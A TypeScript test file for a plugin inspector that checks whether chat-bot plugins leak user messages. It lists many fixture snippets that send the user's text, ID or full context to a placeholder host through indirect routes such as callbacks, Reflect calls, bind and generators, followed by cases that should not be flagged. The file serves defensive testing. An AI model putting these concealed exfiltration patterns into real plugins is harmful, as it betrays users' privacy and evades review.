import { describe, expect, test } from "vitest";
import { inspectPlugin } from "../src/index.ts";
import { plugin } from "./fixtures.ts";

const URL_TEXT = `const url = "https://a.example/?q=";`;

const sent = (statements: string, before = ""): string[] =>
  inspectPlugin(plugin(statements, `${URL_TEXT}\n${before}`)).findings.flatMap(
    ({ rule, message }) => (rule === "sends-user-data" ? [message] : []),
  );

describe("what of the user goes out is followed", () => {
  test.each([
    ["a callback of forEach", `[ctx.msg.text].forEach((t) => fetch(url + t));`],
    ["a callback of map", `await Promise.all([ctx.msg.text].map((t) => fetch(url + t)));`],
    ["a callback of words", `ctx.msg.text.split(" ").map(async (w) => await fetch(url + w));`],
    [
      "a callback with a name",
      `ctx.msg.text.split(" ").forEach(send);`,
      `function send(t) { return fetch(url + t); }`,
    ],
    ["a callback of reduce", `ctx.msg.text.split(" ").reduce((sum, t) => fetch(url + t), 0);`],
    ["a callback of a promise", `await Promise.resolve(ctx.msg.text).then((t) => fetch(url + t));`],
    ["a callback of replace", `ctx.msg.text.replace(/.+/, (t) => { fetch(url + t); return ""; });`],
    [
      "a list that is pushed to",
      `const l = []; l.push(ctx.msg.text); await fetch(url, { method: "POST", body: l.join() });`,
    ],
    ["a list that unshifts", `const l = []; l.unshift(ctx.msg.text); await fetch(url + l);`],
    ["a Set", `const s = new Set(); s.add(ctx.msg.text); await fetch(url + [...s]);`],
    ["a Map", `const m = new Map(); m.set("t", ctx.msg.text); await fetch(url + m.get("t"));`],
    [
      "the parameters of an address",
      `const u = new URL(url); u.searchParams.set("q", ctx.msg.text); await fetch(u);`,
    ],
    [
      "parameters that are appended",
      `const p = new URLSearchParams(); p.append("q", ctx.msg.text); await fetch(url + p);`,
    ],
    [
      "headers",
      `const h = new Headers(); h.set("x", ctx.userId); await fetch(url, { headers: h });`,
    ],
    [
      "a method of an object",
      `await o.send(ctx.msg.text);`,
      `const o = { send(t) { return fetch(url, { body: t }); } };`,
    ],
    [
      "an arrow function of an object",
      `await o.send(ctx.msg.text);`,
      `const o = { send: (t) => fetch(url, { body: t }) };`,
    ],
    [
      "a method of a class",
      `await new A().send(ctx.msg.text);`,
      `class A { send(t) { return fetch(url + t); } }`,
    ],
    [
      "a static method",
      `await A.send(ctx.msg.text);`,
      `class A { static send(t) { return fetch(url + t); } }`,
    ],
    [
      "a field of a class",
      `await new A(ctx.msg.text).send();`,
      `class A { constructor(t) { this.t = t; } send() { return fetch(url + this.t); } }`,
    ],
    ["a property that is set", `const o = {}; o.body = ctx.msg.text; await fetch(url, o);`],
    [
      "Object.assign",
      `const o = {}; Object.assign(o, { body: ctx.msg.text }); await fetch(url, o);`,
    ],
    ["Reflect.set", `const o = {}; Reflect.set(o, "body", ctx.msg.text); await fetch(url, o);`],
    [
      "Object.defineProperty",
      `const o = {}; Object.defineProperty(o, "body", { value: ctx.msg.text }); await fetch(url, o);`,
    ],
    [
      "push that is called",
      `const l = []; Array.prototype.push.call(l, ctx.msg.text); await fetch(url + l);`,
    ],
    [
      "push that is applied",
      `const l = []; Reflect.apply(l.push, l, [ctx.msg.text]); await fetch(url + l);`,
    ],
    ["push by another name", `const l = [], m = l; m.push(ctx.msg.text); await fetch(url + l);`],
    ["a loop", `for (const t of ctx.msg.text.split(" ")) await fetch(url + t);`],
    ["a loop of its names", `for (const t in { [ctx.msg.text]: 1 }) await fetch(url + t);`],
    ["a function without parameters", `const get = () => ctx.msg.text; await fetch(url + get());`],
    ["a getter", `const o = { get t() { return ctx.msg.text; } }; await fetch(url + o.t);`],
    ["a variable of the file", `last = ctx.msg.text; await fetch(url + last);`, `let last = "";`],
    ["a sum that grows", `let t = ""; for (const c of ctx.msg.text) t += c; await fetch(url + t);`],
    ["call", `await send.call(null, ctx.msg.text);`, `function send(t) { return fetch(url + t); }`],
    [
      "apply",
      `await send.apply(null, [ctx.msg.text]);`,
      `function send(t) { return fetch(url + t); }`,
    ],
    [
      "Reflect.apply",
      `await Reflect.apply(send, null, [ctx.msg.text]);`,
      `function send(t) { return fetch(url + t); }`,
    ],
    [
      "bind",
      `await send.bind(null, ctx.msg.text)();`,
      `function send(t) { return fetch(url + t); }`,
    ],
    [
      "arguments",
      `await send(ctx.msg.text);`,
      `function send() { return fetch(url + arguments[0]); }`,
    ],
    [
      "the rest of the arguments",
      `await send(1, ctx.msg.text);`,
      `function send(...all) { return fetch(url + all); }`,
    ],
    [
      "a pattern of a parameter",
      `await send({ t: ctx.msg.text });`,
      `const send = ({ t }) => fetch(url + t);`,
    ],
    ["a default of a parameter", `await ((t = ctx.msg.text) => fetch(url + t))();`],
    ["a function called at once", `await ((t) => fetch(url + t))(ctx.msg.text);`],
    [
      "a generator",
      `for (const t of all(ctx.msg.text)) await fetch(url + t);`,
      `function* all(t) { yield t; }`,
    ],
    [
      "a generator without parameters",
      `const all = function* () { yield ctx.msg.text; }; for (const t of all()) await fetch(url + t);`,
    ],
    ["a tag", "send`${ctx.msg.text}`;", `function send(_, t) { return fetch(url + t); }`],
    ["a timer", `setTimeout((t) => fetch(url + t), 1, ctx.msg.text);`],
    [
      "a promise that is resolved",
      `const p = new Promise((done) => done(ctx.msg.text)); await fetch(url + (await p));`,
    ],
    [
      "an object that is made of some",
      `const o = JSON.parse(JSON.stringify({ t: ctx.msg.text })); await fetch(url + o.t);`,
    ],
    ["the context in a copy", `const c = { ...ctx }; await fetch(url + c.msg.text);`],
    [
      "the message under another name",
      `const { msg: m } = ctx; const o = { m }; await fetch(url + o.m.text);`,
    ],
    [
      "a name that is assigned by a pattern",
      `let m; ({ msg: m } = ctx); await fetch(url + m.text);`,
    ],
    ["a descriptor", `await fetch(url + Object.getOwnPropertyDescriptor(ctx, "msg").value.text);`],
    ["Reflect.get", `await fetch(url + Reflect.get(ctx, "msg").text);`],
    ["all of the context", `await fetch(url, { method: "POST", body: JSON.stringify(ctx) });`],
    ["fetch that is handed on", `const o = { f: fetch }; await o.f(url + ctx.msg.text);`],
    ["fetch that is called", `await fetch.call(null, url + ctx.msg.text);`],
  ])("through %s", (_what, statements, before = "") => {
    expect(sent(statements, before)).not.toEqual([]);
  });
});

describe("what is not of the user is no finding", () => {
  test.each([
    [
      "another list",
      `const l = [], m = []; l.push(ctx.msg.text); m.push("x"); await fetch(url + m);`,
    ],
    [
      "what is stored",
      `await ctx.storage.set("t", ctx.msg.text); await fetch(url + (await ctx.storage.get("city")));`,
    ],
    [
      "settings, after something was stored",
      `await ctx.storage.set("t", ctx.msg.text); await fetch(ctx.config.url);`,
    ],
    [
      "settings, after something of a pattern was stored",
      `const { storage, config } = ctx; await storage.set("t", ctx.msg.text); await fetch(config.url + (await storage.get("x")));`,
    ],
    [
      "settings, after something was updated",
      `await ctx.storage.update("t", () => ctx.msg.text); await fetch(ctx.config.url);`,
    ],
    [
      "a helper that is given something else",
      `await ctx.bot.reply(ctx.msg, clean(ctx.msg.text)); await fetch(url + clean("x"));`,
      `const clean = (t) => t.trim();`,
    ],
    [
      "a helper of other texts",
      `clean(ctx.msg.text); await fetch(url + clean("x"));`,
      `function clean(t) { return t.trim(); }`,
    ],
    ["a callback of other items", `ctx.log(ctx.msg.text); ["a"].forEach((t) => fetch(url + t));`],
    [
      "another method",
      `o.read(ctx.msg.text); await o.send("x");`,
      `const o = { send(t) { return fetch(url + t); }, read(t) { return t; } };`,
    ],
    [
      "what a fetch answered",
      `const { text } = await (await fetch(url)).json(); await ctx.bot.reply(ctx.msg, text); await fetch(url + text);`,
    ],
    ["a choice by the message", `if (ctx.msg.text === "weather") await fetch(url + "x");`],
    [
      "a parameter of one name",
      `show(ctx.msg.text); await send("x");`,
      `const show = (t) => t; const send = (t) => fetch(url + t);`,
    ],
    [
      "a send to the user",
      `const r = await fetch(url); await ctx.bot.sendText(ctx.msg.from, await r.text());`,
    ],
  ])("%s", (_what, statements, before = "") => {
    expect(sent(statements, before)).toEqual([]);
  });
});
